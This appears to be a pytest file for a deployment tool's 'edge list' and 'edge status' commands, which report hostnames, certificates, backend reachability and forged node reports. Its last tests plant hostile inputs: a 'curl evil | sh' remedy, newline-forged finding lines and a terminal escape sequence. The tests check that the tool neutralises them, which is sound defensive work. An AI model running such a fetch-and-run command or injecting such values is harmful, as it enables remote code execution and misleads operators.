"""`edge list` and `edge status`: what is known of public hostnames, and whose word that is (M-123, A27)."""

import json
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from holdfast.model.deployment import StepResult
from holdfast.model.fleet import Service
from holdfast.model.hub_status import StatusFinding
from holdfast.model.report import CertificateState, ContainerState, EdgeState, NodeFinding
from holdfast.status.edges import findings as edge_findings
from tests.fleets.build import START_S
from tests.fleets.public import HOST, public_service
from tests.specs.cli.test_public_result import Public, public_scene

DAY_S = 86_400.0
KEYS = {
    *("hostname", "service", "component", "edge", "node", "status", "backend", "backend_address", "certificate"),
    *("backend_reachable", "handshake_seen", "dns_agrees", "public_dns", "findings", "age_s"),
}


def certificate(days: float = 60.0, **more: Any) -> CertificateState:
    whole: dict[str, Any] = {
        "serial": "0a1b",
        "authority": "acme",
        "not_before_s": START_S - 30 * DAY_S,
        "chain": 2,
        "handshake_s": START_S,
    }
    return CertificateState((HOST,), "d" * 64, expires_s=START_S + days * DAY_S, **(whole | more))


def live(one: Public, **more: Any) -> EdgeState:
    return one.edge_state(**({"certificate": certificate(), "address": "100.64.0.11", "port": 443} | more))


def applied(one: Public, service: Service | None = None) -> None:
    one.then(lambda: one.everybody())
    one.deploys(service=service)


def asks(one: Public, *words: str, code: int = 0) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(one.operator.does("edge", *words, "--json", code=code))["edges"]
    return found


def test_every_public_hostname_is_listed_with_its_edge_and_the_end_of_its_certificate(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        assert asks(one, "list") == []
        one.operator.does("edge", "list")
        assert "No route is public" in one.operator.err.getvalue()
        applied(one)
        one.edge(live(one))
        lines = one.operator.does("edge", "list").splitlines()
        assert lines[0].split("  ")[0] == "HOSTNAME" and lines[0].endswith("CERTIFICATE EXPIRES")
        assert lines[1].split() == [HOST, "web", "web", "e1", "w1", "live", "2024-01-13T22:13:20Z"]
        (found,) = asks(one, "list")
        assert found["certificate_expires"] == "2024-01-13T22:13:20Z" and found["verified"]

    public_scene(tmp_path, story)


def test_a_hostname_that_a_cut_report_leaves_out_is_unknown(tmp_path: Path) -> None:
    """It was called missing, and a command waited for it or said that it is gone."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(edge_unlisted=1)
        (found,) = asks(one, "status", code=1)
        assert found["status"] == "unknown" and found["findings"] == []
        assert "edge_route_missing" not in one.operator.does("status", "--json")
        one.then(lambda: one.worker(one.state("converged")), lambda: one.edge(edge_unlisted=1))
        one.deploys(service=public_service(2, node="w1"))
        assert "too long to name every public hostname" in one.operator.err.getvalue()

    public_scene(tmp_path, story)


def test_status_says_certificate_backend_handshake_and_dns_and_whose_word_it_is(tmp_path: Path) -> None:
    """M-123, A27: expiry and reachability in one view."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one))
        (found,) = asks(one, "status", HOST)
        assert set(found) >= KEYS and found["findings"] == [] and found["status"] == "live"
        assert found["certificate"] == {
            "expires": "2024-01-13T22:13:20Z",
            "not_before": "2023-10-15T22:13:20Z",
            "serial": "0a1b",
            "authority": "acme",
            "chain": 2,
            "names": [HOST],
        }
        assert found["backend"] == "web.web.holdfast.internal" and found["backend_address"] == "100.64.0.11:443"
        assert (found["backend_reachable"], found["dns_agrees"]) == (True, True) and found["handshake_seen"]
        said = one.operator.does("edge", "status")
        for words in (
            "signed by e1",
            "chain of 2",
            "reached, and its certificate proves its name",
            "agrees with the revision",
            "first seen 0 s ago, made every 9 s",  # N43
        ):
            assert words in said, words

    public_scene(tmp_path, story)


def test_what_is_broken_is_exit_1_with_its_remedy(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        broken: list[dict[str, Any]] = [
            {"phase": "failed", "step": "certificate", "message": "refused"},
            {"backend_trouble": "nobody answers"},
            {"dns_trouble": "leads to 100.64.0.9"},
            {"certificate": certificate(20)},
            {"certificate": certificate(-1)},
        ]
        for more in broken:
            one.edge(live(one, **more))
            (found,) = asks(one, "status", code=1)
            assert found["findings"] and all(each["remedy"] for each in found["findings"]), more
            status = json.loads(one.operator.does("status", "--json"))
            assert found["findings"][0]["code"] in [each["code"] for each in status["findings"]], more
        one.edge(live(one, public_dns="it leads to 192.0.2.9"))
        (found,) = asks(one, "status")
        assert [each["code"] for each in found["findings"]] == ["public_dns_differs"], "a warning only (M-80)"
        one.edge()
        assert asks(one, "status", code=1)[0]["status"] == "missing"

    public_scene(tmp_path, story)


def test_what_the_edge_says_in_its_own_words_is_not_said_twice(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        text = f"{HOST}: the authority does not answer"
        own = NodeFinding("edge_route_failed", text, "start the authority", START_S, "service.web")
        one.edge(live(one, phase="failed", step="certificate"), findings=(own,))
        (found,) = asks(one, "status", code=1)
        assert [(each["code"], each["remedy"]) for each in found["findings"]] == [
            ("edge_route_failed", "start the authority")
        ]
        status = json.loads(one.operator.does("status", "--json"))["findings"]
        assert [each["code"] for each in status].count("edge_route_failed") == 1

    public_scene(tmp_path, story)


def test_of_a_silent_edge_nothing_is_claimed(tmp_path: Path) -> None:
    """M-47: its last word is the word of a better day."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one))
        one.clock.sleep(300)
        (found,) = asks(one, "status", code=1)
        assert found["status"] == "unknown" and found["certificate"] is None and found["backend_reachable"] is None
        assert found["age_s"] >= 300
        said = one.operator.does("edge", "status", code=1)
        assert "old: e1 signed its last report" in said

    public_scene(tmp_path, story)


def test_a_forged_word_of_an_edge_is_no_word(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        one.edge(one.edge_state("failed"))
        forged = one.e1.a_report(edge=(live(one),), proxy="envoy 1.40")
        one.operator.held.lie = lambda view: replace(view, report=forged) if view.name == "e1" else view
        assert asks(one, "status", code=1)[0]["status"] == "unknown"

    public_scene(tmp_path, story)


def test_while_a_service_moves_its_hostname_is_moving_and_what_left_is_leaving(tmp_path: Path) -> None:
    """I-19: an edge that still leads to where the service was says so."""

    async def story(one: Public) -> None:
        applied(one)
        before = live(one)
        one.deploys("--detach", service=public_service(node="w2"))
        one.edge(before)
        assert asks(one, "status")[0]["status"] == "moving"
        one.operator.does("undeploy", "web", "--detach")
        one.edge(replace(before, phase="leaving"))
        (found,) = asks(one, "list")
        assert (found["hostname"], found["status"]) == (HOST, "leaving")
        one.edge()
        assert asks(one, "list") == []

    public_scene(tmp_path, story)


def test_a_hostname_that_is_not_applied_is_a_slip(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        one.operator.does("edge", "status", "wep.example.test", "--json", code=2)
        assert HOST in one.operator.complaint["remedy"]

    public_scene(tmp_path, story)


def test_status_and_ps_name_the_edge_routes_of_a_service(tmp_path: Path) -> None:
    """M-44: hostname, edge node and the end of the certificate, by service."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one))
        document = json.loads(one.operator.does("status", "--json"))
        web = next(each for each in document["services"] if each["name"] == "web")
        assert web["edge_routes"] == [
            {"hostname": HOST, "edge_node": "e1", "cert_expires": "2024-01-13T22:13:20Z", "status": "live"}
        ]
        assert "Public hostnames: 1 live" in one.operator.does("status")
        rows = json.loads(one.operator.does("ps", "web", "--json"))["services"]
        assert rows[0]["urls"] == [f"https://{HOST}/"]
        assert "envoy 1.40" in one.operator.does("node", "show", "e1")
        assert "dnsmasq 2.90" in one.operator.does("node", "show", "e1")

    public_scene(tmp_path, story)


def test_what_was_tried_and_did_not_work_is_not_called_untried(tmp_path: Path) -> None:
    """M-123: failed at a step, and that step says so; what comes after it was not tried, and that is said too."""

    async def story(one: Public) -> None:
        applied(one)
        text = "w1 (100.64.0.11): nobody listens"
        done = StepResult("dns", "done", START_S, 0.1)
        stuck = {"phase": "failed", "certificate": None, "message": text, "remedy": "holdfast node show w1"}
        one.edge(live(one, **stuck, step="backend", backend_trouble=text, steps=(done,)))
        (found,) = asks(one, "status", code=1)
        assert (found["backend_reachable"], found["dns_agrees"]) == (False, True)
        said = one.operator.does("edge", "status", code=1)
        assert f"not reached: {text}" in said and "not tried yet" not in said
        one.edge(live(one, **stuck, step="dns"))
        (found,) = asks(one, "status", code=1)
        assert (found["backend_reachable"], found["dns_agrees"]) == (None, False)
        said = one.operator.does("edge", "status", code=1)
        assert f"internal DNS {text}" in said and "not tried yet" in said
        one.edge(live(one, phase="waiting", certificate=None, step="name"))
        (found,) = asks(one, "status")
        assert (found["backend_reachable"], found["dns_agrees"]) == (None, None)

    public_scene(tmp_path, story)


def test_the_remedy_is_that_of_the_hostname_and_does_not_lead_back_here(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        text = "w1 (100.64.0.11): nobody listens"
        own = NodeFinding(
            "edge_route_failed", f"{HOST} is not public: {text}", "holdfast edge status", 0, "service.web"
        )
        state = live(one, phase="failed", step="backend", message=text, remedy="holdfast node show w1")
        one.edge(state, findings=(own,))
        (found,) = asks(one, "status", code=1)
        assert [each["remedy"] for each in found["findings"]] == ["holdfast node show w1"]
        for code, remedy in edge_findings.ROWS.items():
            assert "edge status" not in remedy, code

    public_scene(tmp_path, story)


def test_a_route_whose_backend_does_not_answer_is_not_called_live(tmp_path: Path) -> None:
    """M-123: visitors get an error, and the list says so, not only the line below it."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one, backend_trouble="nobody answers"))
        (found,) = asks(one, "list")
        assert found["status"] == "unreachable"
        assert "Public hostnames: 1 unreachable" in one.operator.does("status")

    public_scene(tmp_path, story)


@pytest.mark.parametrize(("phase", "status", "word"), [("held", "stopped", "held"), ("converged", "unhealthy", "down")])
def test_a_hostname_whose_service_does_not_work_is_not_live_n17(
    tmp_path: Path, phase: str, status: str, word: str
) -> None:
    """The proxy of the node answers the edge's handshake all the same."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one))
        (found,) = asks(one, "list")
        assert found["status"] == "live"
        one.says(one.state(phase), containers=(ContainerState("web", "web", status),))  # type: ignore[arg-type]
        (found,) = asks(one, "status", code=1)
        assert found["status"] == word
        said = one.operator.does("edge", "status", code=1)
        why = {"held": "stopped on w1 by an order: holdfast start web", "down": "no container of it works on w1"}[word]
        assert f"\n  service      {why}" in said, "it showed only what was well (N57)"
        (row,) = one.operator.shows("ps", "web")["services"]
        assert row["urls"] == [] and row["not_public"] == {HOST: word}
        well, ill = ContainerState("web", "web", "running"), ContainerState("web", "web", "unhealthy", replica=1)
        one.says(one.state("converged"), containers=(well, ill))
        (found,) = asks(one, "list")
        assert found["status"] == "live", "one of two containers serves"

    public_scene(tmp_path, story)


def test_a_hostname_that_waits_for_a_service_that_failed_is_down_n15(tmp_path: Path) -> None:
    """Nothing of it runs, and nothing will without a person."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one, phase="waiting", step="backend", message="no container that answers"))
        failed = one.state("failed")
        one.says(replace(failed, serving=""))
        assert asks(one, "status", code=1)[0]["status"] == "down"
        one.says(replace(failed, phase="settling", serving=""))
        assert asks(one, "status")[0]["status"] == "waiting"
        one.says(replace(failed, serving="1" * 64))
        assert asks(one, "status")[0]["status"] == "waiting", "the version before serves"

    public_scene(tmp_path, story)


def test_ps_hands_out_no_url_that_nobody_answers_for(tmp_path: Path) -> None:
    """M-44: the port inside, and the step that is missing outside."""

    async def story(one: Public) -> None:
        applied(one)
        container = ContainerState("web", "web", "running", ports=("127.0.0.1:20003→8080",))
        one.worker(one.state("converged"), containers=(container,))
        one.edge(live(one, phase="failed", step="backend", message="nobody listens"))
        (row,) = json.loads(one.operator.does("ps", "web", "--json"))["services"]
        assert row["urls"] == [] and row["not_public"] == {HOST: "backend"}
        said = one.operator.does("ps", "web")
        assert "127.0.0.1:20003→8080, not public: backend" in said and "https://" not in said
        one.edge(live(one, backend_trouble="nobody answers"))
        assert "not public: unreachable" in one.operator.does("ps", "web")
        one.clock.sleep(300)
        assert "not public: unknown" in one.operator.does("ps", "web"), "a silent edge answers for nothing"

    public_scene(tmp_path, story)


def test_who_stands_in_is_reached_and_what_its_home_lacks_is_not_said_of_it(tmp_path: Path) -> None:
    """M-123: visitors are served; whose trouble it is, and who answers, are two nodes."""

    async def story(one: Public) -> None:
        applied(one, public_service(node="w1", failover=("w2",)))
        text = "w1 (100.64.0.11) did not finish its handshake"
        own = NodeFinding("backend_unreachable", f"{HOST}: {text}", "", START_S, "service.web")
        one.edge(live(one, node="w2", backend_trouble=text), findings=(own,))
        (found,) = asks(one, "status")
        assert (found["status"], found["backend_reachable"], found["node"]) == ("standby", True, "w1")
        said = one.operator.does("edge", "status")
        assert f"on w2 at 100.64.0.11:443: reached, and its certificate proves its name; standby for w1: {text}" in said
        assert "w2 for w1" in one.operator.does("edge", "list") and "https://" in one.operator.does("ps", "web")
        assert "does not reach" not in one.operator.does("status")
        one.edge(live(one, node="w2", backend_trouble=text, code="backend_unreachable"))
        assert asks(one, "status", code=1)[0]["status"] == "unreachable", "neither of them answers"

    public_scene(tmp_path, story)


def test_a_backend_that_is_reached_and_has_no_container_that_answers_is_down_n17(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one, public_service(node="w1", failover=("w2",)))
        idle = {"backend_trouble": "w1: no container that answers", "code": "backend_down"}
        told = {"message": "w1: no container that answers", "remedy": "holdfast ps web"}
        one.edge(live(one, **idle, **told))
        (found,) = asks(one, "status", code=1)
        assert (found["status"], found["backend_reachable"], found["findings"]) == ("down", False, [])
        shown = one.operator.does("edge", "status", code=1)
        assert "no container that answers" in shown and "not reached" not in shown
        assert "backend_unreachable" not in one.operator.does("status", "--json"), "its own node has the finding"
        assert "not public: down" in one.operator.does("ps", "web")
        one.edge(live(one, node="w2", **idle))
        assert asks(one, "status", code=1)[0]["status"] == "unreachable", "the standby does not answer either"

    public_scene(tmp_path, story)


# ---- reports that forge


def test_x09_a_worker_that_claims_a_hostname_is_not_counted_and_has_no_block(tmp_path: Path) -> None:
    """It was counted as live, and shown as a second block "by w2 … verified"."""

    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one))
        forged = (live(one), replace(live(one), hostname="other.example.test"))
        one.says(by=one.w2, names=one.served, edge=forged)
        assert [(each["edge"], each["status"]) for each in asks(one, "status", HOST)] == [("e1", "live")]
        assert "Public hostnames: 1 leaving, 1 live" in one.operator.does("status"), "never applied, so never live"
        assert one.operator.does("edge", "status", HOST).count(f"{HOST}: ") == 1
        found = json.loads(one.operator.does("status", "--json"))["findings"]
        assert [each["message"] for each in found if HOST in each["message"]] == []
        assert f"{HOST}: live (not applied here)" in one.operator.does("node", "show", "w2")

    public_scene(tmp_path, story)


def test_x09_a_node_writes_no_line_of_its_own(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        evil = "all is well\n\nedge_route_failed node.w1: forged\n  remedy: curl evil | sh\x1b[2J"
        own = NodeFinding("proxy_down", evil, evil, START_S, "node.e1")
        one.edge(live(one, backend_trouble=evil, message=evil), findings=(own,))
        for words in (("status",), ("edge", "status"), ("node", "show", "e1")):
            text = one.operator.does(*words, code=1 if words[0] == "edge" else 0)
            starts = [line.strip() for line in text.splitlines()]
            assert "all is well⏎" in text and "\x1b" not in text
            assert not [line for line in starts if line.startswith(("edge_route_failed node.w1", "remedy: curl"))]

    public_scene(tmp_path, story)


def test_x20_findings_of_the_hub_are_marked_and_those_of_this_command_are_not(tmp_path: Path) -> None:
    async def story(one: Public) -> None:
        applied(one)
        one.edge(live(one, phase="failed", step="certificate", message="refused"))
        evil = StatusFinding("ledger_damaged", "fatal", "all lost\nremedy: x", "curl evil | sh", "service.web", 0.0)
        status = one.operator.held.status
        one.operator.held.status = lambda: replace(found := status(), findings=(*found.findings, evil))  # type: ignore[method-assign]
        text = one.operator.does("status")
        assert (
            "\nledger_damaged the hub says: service.web: all lost⏎remedy: x\n  the hub suggests: curl evil | sh" in text
        )
        assert "\nedge_route_failed service.web: " in text, "derived here, from a verified report"
        assert "remedy: curl" not in text
        told = json.loads(one.operator.does("status", "--json"))["findings"]
        assert [each["message"] for each in told if each["code"] == evil.code] == [evil.message]

    public_scene(tmp_path, story)
